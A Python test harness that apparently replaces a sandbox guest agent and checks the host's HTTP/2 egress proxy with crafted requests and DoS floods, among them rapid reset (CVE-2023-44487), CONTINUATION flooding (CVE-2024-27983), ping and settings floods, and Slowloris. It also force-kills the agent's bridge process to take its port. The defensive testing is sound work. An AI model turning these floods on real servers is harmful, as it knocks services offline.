"""
Takes the place of the guest agent at its egress port, as root, and speaks HTTP/2 to the host in ways that no library would. Reads a
JSON list of attacks on stdin and prints, as a JSON list, what became of each:

{"fields": [[name, value], …], "body": text, "open": bool}   one request; an answer, or how it was refused
{"name": name, …}                                            one of FLOODS
"""

import json
import os
import re
import select
import struct
import subprocess
import sys
import time
from collections import Counter

PORTS = "/sys/class/virtio-ports"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)
NO_TABLE = struct.pack(">HI", 1, 0)  # SETTINGS_HEADER_TABLE_SIZE: answers need no memory to be read
WIDE_WINDOW = struct.pack(">HI", 4, 2**31 - 1)
# Statuses that HPACK has a number for (RFC 7541, appendix A).
STATUSES = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
REASONS = {1: "protocol error", 2: "internal error", 7: "refused", 8: "cancelled", 11: "calm down"}
DEADLINE = 60
# Frames in one write.
BATCH = 100
# So long the host may take nothing before it is said not to read.
WRITE_SECONDS = 15
# An answer that has not come by then will not come.
SILENCE = 10


class Ended(Exception):
    """The host has closed its end."""


def take_device():
    """The port can be open once: the agent's bridge must go, and may come back."""
    number = next(each for each in os.listdir(PORTS) if "vivarium.egress" in open(f"{PORTS}/{each}/name").read())
    device = f"/dev/{number}"
    give_up = time.monotonic() + DEADLINE
    while True:
        subprocess.run(["pkill", "-9", "-f", f"^socat .*OPEN:{device},rdwr"], check=False)
        try:
            return os.open(device, os.O_RDWR | os.O_NONBLOCK)
        except OSError:
            if time.monotonic() > give_up:
                raise
            time.sleep(0.02)


class Session:
    """HTTP/2 with the host, from the preamble on."""

    def __init__(self, fd, settings=NO_TABLE, acknowledge=True):
        self.fd, self.buffer, self.stream, self.acknowledge = fd, b"", -1, acknowledge
        self.greet()
        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        self.frame(SETTINGS, 0, 0, settings)

    def greet(self):
        give_up = time.monotonic() + DEADLINE
        nonce, flushed = None, 0.0
        while time.monotonic() < give_up:
            try:
                if nonce is None and time.monotonic() - flushed > 2:
                    # Ends whatever session the host believes to be in.
                    flushed = time.monotonic()
                    self.write(b"\n" * 17408)
                self.receive(0.5)
            except Ended:
                time.sleep(0.05)
            line = re.search(rb"VIVARIUM/1 (hello|go) ([0-9a-f]{32})\n", self.buffer)
            if line is None:
                self.buffer = self.buffer[-64:]
                continue
            self.buffer = self.buffer[line.end() :]
            verb, nonce = line.groups()
            self.write(b"VIVARIUM/1 %s %s\n" % (b"echo" if verb == b"hello" else b"ready", nonce))
            if verb == b"go":
                return
        raise TimeoutError("the host begins no session")

    def write(self, data):
        view, give_up = memoryview(data), time.monotonic() + WRITE_SECONDS
        while len(view) > 0:
            try:
                view = view[os.write(self.fd, view[:32768]) :]
            except BlockingIOError:
                if self.is_alone():
                    raise Ended from None
                if time.monotonic() > give_up:
                    raise TimeoutError("the host reads nothing") from None
                time.sleep(0.01)

    def is_alone(self):
        """Whether the host has closed its end."""
        poll = select.poll()
        poll.register(self.fd, select.POLLIN)
        return any(events & select.POLLHUP for _, events in poll.poll(0))

    def receive(self, seconds):
        """Whether anything came within the time."""
        if select.select([self.fd], [], [], seconds)[0] == []:
            return False
        try:
            part = os.read(self.fd, 262144)
        except BlockingIOError:
            return False
        if part == b"":
            raise Ended
        self.buffer += part
        return True

    def frame(self, kind, flags, stream, payload=b""):
        self.write(frame(kind, flags, stream, payload))

    def frames(self, seconds):
        """Frames of the host as (kind, flags, stream, payload), until none has come for so long."""
        while True:
            while len(self.buffer) >= 9:
                end = 9 + int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < end:
                    break
                kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
                payload, self.buffer = self.buffer[9:end], self.buffer[end:]
                if kind == SETTINGS and not flags & ACK and self.acknowledge:
                    self.frame(SETTINGS, ACK, 0)
                yield kind, flags, stream, payload
            if not self.receive(seconds):
                return

    def request(self, fields, end_stream=True, flags=END_HEADERS):
        self.stream += 2
        self.frame(HEADERS, flags | (END_STREAM if end_stream else 0), self.stream, block(fields))
        return self.stream

    def connects(self, authority, count):
        """Asks for tunnels, all in one write; returns their streams."""
        head = block([[":method", "CONNECT"], [":authority", authority]])
        streams = [self.stream + 2 * n for n in range(1, count + 1)]
        self.stream = streams[-1]
        self.write(b"".join(frame(HEADERS, END_HEADERS, stream, head) for stream in streams))
        return streams


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    data = value.encode("latin1")
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, more = len(data) - 127, b""
    while rest >= 128:
        more, rest = more + bytes([rest % 128 + 128]), rest // 128
    return b"\x7f" + more + bytes([rest]) + data


def block(fields):
    """Fields as literals that no table remembers (RFC 7541, section 6.2.2)."""
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)


def status(payload):
    while payload[0] & 0xE0 == 0x20:  # a change of the table's size
        payload = payload[1:]
    if payload[0] & 0x80:
        return STATUSES.get(payload[0] & 0x7F, 0)
    length, digits = payload[1] & 0x7F, payload[2:]
    return int(huffman_digits(digits[:length])) if payload[1] & 0x80 else int(digits[:length])


def huffman_digits(data):
    """Digits in HPACK's code (RFC 7541, appendix B): five bits for 0 to 2, six for the others."""
    bits, digits = "".join(f"{byte:08b}" for byte in data), ""
    while len(digits) < 3:
        size = 5 if bits.startswith("00") else 6
        value, bits = int(bits[:size], 2), bits[size:]
        digits += str(value if size == 5 else value - 22)
    return digits


class Attacker:
    """Makes one request after the other, in one session as long as the host bears it."""

    def __init__(self, fd):
        self.fd, self.session = fd, None

    def attack(self, fields, body="", open=False):
        """`open` leaves the request without an end."""
        try:
            self.session = self.session or Session(self.fd)
            return self.answer(fields, body, open)
        except Ended:
            self.session = None
            return "session ended"

    def answer(self, fields, body, open):
        own = self.session.request(fields, end_stream=body == "" and not open)
        if body != "":
            self.session.frame(DATA, 0 if open else END_STREAM, own, body.encode("latin1"))
        answer = None
        for kind, flags, stream, payload in self.session.frames(SILENCE):
            if kind == GOAWAY:
                self.session = None
                return f"session refused: {reason(payload[4:8])}"
            if stream != own:
                continue
            if kind == RESET:
                return answer or f"refused: {reason(payload)}"
            if kind == HEADERS and answer is None:
                answer = f"{status(payload)} "
            if kind == DATA:
                answer += payload.decode("utf8", "replace")
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                return answer
            if open and answer == "200 ":
                break
        self.session.frame(RESET, 0, own, CANCEL)
        return answer or "silence"


def reason(payload):
    code = int.from_bytes(payload[:4], "big")
    return REASONS.get(code, f"code {code}")


def connects(fd, authority, count, at_once=200):
    """Asks for so many tunnels, never more at once than the host allows."""
    session, sent, outcomes = Session(fd), 0, Counter()
    under_way = set()
    while len(under_way) > 0 or sent < count:
        more = min(count - sent, at_once - len(under_way))
        if more > 0:
            under_way.update(session.connects(authority, more))
            sent += more
        for kind, flags, stream, payload in session.frames(DEADLINE):
            if kind == GOAWAY:
                raise Ended
            if kind == HEADERS:
                outcomes[str(status(payload))] += 1
            if kind == DATA and len(payload) > 0:
                session.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload)))
            if kind == RESET or kind in (HEADERS, DATA) and flags & END_STREAM:
                under_way.discard(stream)
                if len(under_way) <= (at_once // 2 if sent < count else 0):
                    break
        else:
            raise TimeoutError(f"{len(under_way)} tunnels without an answer")
    return dict(outcomes)


def crowd(fd, authority, count):
    """Asks for so many tunnels at once, whatever the host allows, and keeps those it gets."""
    session, outcomes = Session(fd, acknowledge=False), Counter()
    try:
        session.connects(authority, count)
        for kind, _, _, payload in session.frames(5):
            if kind == HEADERS:
                outcomes[str(status(payload))] += 1
            elif kind == RESET:
                outcomes[reason(payload)] += 1
            elif kind == GOAWAY:
                outcomes["session refused"] += 1
    except Ended:
        outcomes["session ended"] += 1
    return dict(outcomes)


def resets(fd, authority, count):
    """Rapid reset (CVE-2023-44487): requests that are taken back at once."""
    session = Session(fd)

    def act():
        streams = session.connects(authority, BATCH)
        session.write(b"".join(frame(RESET, 0, stream, CANCEL) for stream in streams))

    return pour(session, count // BATCH, act)


def continuations(fd, count):
    """A head that never ends (CVE-2024-27983)."""
    session = Session(fd)
    own = session.request([[":method", "GET"]], end_stream=False, flags=0)
    more = frame(CONTINUATION, 0, own, block([["x-more", "x" * 100]] * 100))
    return pour(session, count, lambda: session.write(more))


def pings(fd, count):
    """Each wants an answer, and none is read."""
    session = Session(fd)
    batch = frame(PING, 0, 0, bytes(8)) * BATCH
    return pour(session, count // BATCH, lambda: session.write(batch), read=False)


def settings(fd, count):
    """The same by settings."""
    session = Session(fd)
    batch = frame(SETTINGS, 0, 0, NO_TABLE) * BATCH
    return pour(session, count // BATCH, lambda: session.write(batch), read=False)


def bodies(fd, fields, count, size):
    """Fills the windows of many requests to a server that reads none of it."""
    session, piece, room = Session(fd), bytes(16384), 65535
    for own in [session.request(fields, end_stream=False) for _ in range(count)]:
        for _ in range(size // len(piece)):
            while room < len(piece):
                room += granted(session)
            session.frame(DATA, 0, own, piece)
            room -= len(piece)
    return "done"


def granted(session):
    """Bytes by which the host widens the window of the whole connection."""
    for kind, _, stream, payload in session.frames(DEADLINE):
        if kind == GOAWAY:
            raise Ended
        if kind == WINDOW_UPDATE and stream == 0:
            return int.from_bytes(payload, "big")
    raise TimeoutError("the host takes no more")


def deaf(fd, fields, count, seconds):
    """Opens the widest windows, asks for endless answers, and reads nothing."""
    session = Session(fd, settings=NO_TABLE + WIDE_WINDOW)
    session.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536))
    for _ in range(count):
        session.request(fields)
    time.sleep(seconds)
    return "done"


def halves(fd, fields, count, seconds):
    """Slowloris: requests whose body comes byte by byte and never ends."""
    session = Session(fd)
    own = [session.request(fields, end_stream=False) for _ in range(count)]
    give_up = time.monotonic() + seconds
    while time.monotonic() < give_up:
        for stream in own:
            session.frame(DATA, 0, stream, b"x")
        time.sleep(1)
    return "done"


def garbage(fd, size):
    """No HTTP/2 at all, where a session has begun."""
    session = Session(fd)
    return pour(session, size // 32768, lambda: session.write(os.urandom(32768)))


def pour(session, count, act, read=True):
    """Acts so often; says whether the host has borne it."""
    try:
        for _ in range(count):
            act()
            if read and session.receive(0):
                session.buffer = b""
        while session.receive(2):
            session.buffer = b""
        return "done"
    except TimeoutError:
        return "the host reads no more"


FLOODS = {each.__name__: each for each in (connects, crowd, resets, continuations, pings, settings, bodies, deaf, halves, garbage)}


def flood(fd, name, **options):
    try:
        return FLOODS[name](fd, **options)
    except Ended:
        return "session ended"


descriptor = take_device()
attacker = Attacker(descriptor)
print(json.dumps([flood(descriptor, **order) if "name" in order else attacker.attack(**order) for order in json.load(sys.stdin)]))
